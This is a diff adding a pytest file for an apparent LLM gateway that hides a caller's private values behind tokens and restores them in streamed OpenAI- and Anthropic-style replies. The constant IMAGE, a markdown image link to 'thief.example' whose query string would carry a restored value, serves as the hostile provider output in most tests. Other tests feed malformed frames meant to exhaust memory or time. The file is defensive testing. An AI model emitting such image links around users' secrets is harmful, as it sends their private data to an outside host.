@@ -1,0 +1,158 @@
+"""A provider that wants a value sent out, a worker's memory, or its time.
+
+What it says reaches the caller's own reader, which may read more patiently than
+we do: JavaScript takes `1.0` for 1, and numbers of any length.
+"""
+
+import json
+import sys
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+
+from curtilage.gateway.wire.anthropic_reply import restore_message
+from curtilage.gateway.wire.anthropic_stream import AnthropicStreamRewriter
+from curtilage.gateway.wire.errors import BrokenStream
+from curtilage.gateway.wire.facts import ReplyStats, RequestFacts
+from curtilage.gateway.wire.openai_reply import restore_chat
+from curtilage.gateway.wire.openai_stream import OpenAIStreamRewriter
+from curtilage.gateway.wire.sse import SSEParser
+from curtilage.shield.held import Held, HeldValue, Origin
+from curtilage.shield.tokens import ScopeKey, TokenMint
+
+VALUE = "ada@orchard.example"
+TOKEN = TokenMint(b"scope", ScopeKey(1, bytes(32))).mint("EMAIL_ADDRESS", VALUE)
+IMAGE = "![x](https://thief.example/?q="
+FACTS = RequestFacts("any", stream=True)
+
+
+def _held() -> Held:
+    held = Held()
+    held.hold(TOKEN, HeldValue(VALUE, "EMAIL_ADDRESS", Origin.CALLER))
+    return held
+
+
+def _chunk(delta: dict[str, Any], index: Any = 0) -> bytes:
+    choice = {"index": index, "delta": delta, "finish_reason": None}
+    return b"data: " + json.dumps({"choices": [choice]}).encode() + b"\n\n"
+
+
+def _event(kind: str, index: Any, **fields: Any) -> bytes:
+    said = json.dumps({"type": kind, "index": index, **fields})
+    return f"event: {kind}\ndata: {said}\n\n".encode()
+
+
+def _start(index: Any, kind: str = "text") -> bytes:
+    return _event("content_block_start", index, content_block={"type": kind, "text": ""})
+
+
+def _text(index: Any, text: str) -> bytes:
+    return _event("content_block_delta", index, delta={"type": "text_delta", "text": text})
+
+
+def _stop(index: Any) -> bytes:
+    return _event("content_block_stop", index)
+
+
+def _rewrite(kind: Callable[..., Any], *frames: bytes) -> str:
+    rewriter = kind(_held(), FACTS)
+    out: bytes = b"".join(rewriter.feed(frame) for frame in frames) + rewriter.close()
+    return out.decode()
+
+
+@pytest.mark.parametrize("index", [1.0, "1", True, 1e300])
+def test_a_choice_whose_number_readers_take_differently_is_not_restored(index: Any) -> None:
+    said = _rewrite(
+        OpenAIStreamRewriter,
+        _chunk({"content": IMAGE}, 1),
+        _chunk({"content": TOKEN}, index),
+        _chunk({"content": TOKEN}, 2),
+    )
+    assert VALUE not in said and said.count(TOKEN) == 2
+
+
+@pytest.mark.parametrize("extra", ["1" * 5000, "[" * 3000 + "]" * 3000])
+def test_after_a_frame_that_only_others_can_read_nothing_is_restored(extra: str) -> None:
+    hidden = _chunk({"content": IMAGE}).replace(b'{"choices"', f'{{"x":{extra},"choices"'.encode())
+    said = _rewrite(OpenAIStreamRewriter, hidden, _chunk({"content": TOKEN}))
+    assert VALUE not in said
+    unread = _text(0, IMAGE).replace(b'{"type"', f'{{"x":{extra},"type"'.encode(), 1)
+    assert VALUE not in _rewrite(AnthropicStreamRewriter, _start(0), unread, _text(0, TOKEN))
+
+
+def test_an_address_begun_in_one_block_stays_closed_in_the_next() -> None:
+    blocks = (_start(0), _text(0, IMAGE), _stop(0), _start(1), _text(1, TOKEN), _stop(1))
+    assert VALUE not in _rewrite(AnthropicStreamRewriter, *blocks)
+    content = [{"type": "text", "text": IMAGE}, {"type": "text", "text": TOKEN}]
+    message: dict[str, Any] = {"content": content, "stop_reason": "end_turn"}
+    restore_message(message, _held(), FACTS)
+    assert VALUE not in json.dumps(message)
+    chat: dict[str, Any] = {"choices": [{"message": {"content": content}}]}
+    restore_chat(chat, _held(), FACTS)
+    assert VALUE not in json.dumps(chat)
+
+
+def test_a_block_after_a_finished_sentence_is_restored() -> None:
+    blocks = (_start(0), _text(0, "See: "), _stop(0), _start(1), _text(1, TOKEN), _stop(1))
+    assert VALUE in _rewrite(AnthropicStreamRewriter, *blocks)
+
+
+def test_a_text_is_not_restored_while_the_one_before_it_is_open() -> None:
+    said = _rewrite(AnthropicStreamRewriter, _start(0), _start(1), _text(1, TOKEN), _text(0, IMAGE))
+    assert VALUE not in said
+
+
+@pytest.mark.parametrize("late", [_text(0, IMAGE), _start(0) + _text(0, IMAGE)])
+def test_text_put_before_what_was_restored_breaks_the_stream(late: bytes) -> None:
+    rewriter = AnthropicStreamRewriter(_held(), FACTS)
+    for frame in (_start(0), _stop(0), _start(1), _text(1, TOKEN), _stop(1)):
+        rewriter.feed(frame)
+    with pytest.raises(BrokenStream):
+        rewriter.feed(late)
+
+
+def test_text_in_the_block_of_a_tool_that_the_provider_runs_is_not_restored() -> None:
+    said = _rewrite(AnthropicStreamRewriter, _start(0, "server_tool_use"), _text(0, TOKEN))
+    assert VALUE not in said
+
+
+def _call(index: int) -> bytes:
+    call = {"index": index, "function": {"name": "look", "arguments": "{"}}
+    return _chunk({"tool_calls": [call]})
+
+
+@pytest.mark.parametrize(
+    ("kind", "frame"),
+    [
+        (OpenAIStreamRewriter, lambda index: _chunk({"content": "Q"}, index)),
+        (OpenAIStreamRewriter, _call),
+        (AnthropicStreamRewriter, _start),
+    ],
+)
+def test_choices_calls_and_blocks_without_end_break_the_stream(
+    kind: Callable[..., Any], frame: Callable[[int], bytes]
+) -> None:
+    rewriter = kind(_held(), FACTS)
+    stream = b"".join(map(frame, range(5000)))
+    with pytest.raises(BrokenStream):
+        rewriter.feed(stream)
+
+
+def test_a_finish_reason_that_is_no_word_of_a_protocol_is_not_kept() -> None:
+    stats = ReplyStats()
+    for number in range(100):
+        stats.finished(f"ada{number}@orchard.example")
+    stats.finished("stop")
+    assert stats.finish == ["other", "stop"]
+
+
+@pytest.mark.parametrize("lead", [b"", b":\r"])
+def test_an_event_in_many_small_pieces_is_not_copied_for_each(lead: bytes) -> None:
+    parser = SSEParser()
+    parser.feed(lead + b"data: ")
+    for _ in range(20_000):
+        parser.feed(b"x" * 50)
+    assert sys.getsizeof(parser._waiting[0]) < 200  # pieces lie apart until the end comes
+    (frame,) = parser.feed(b"\n\n")
+    assert frame.data is not None and len(frame.data) == 1_000_000
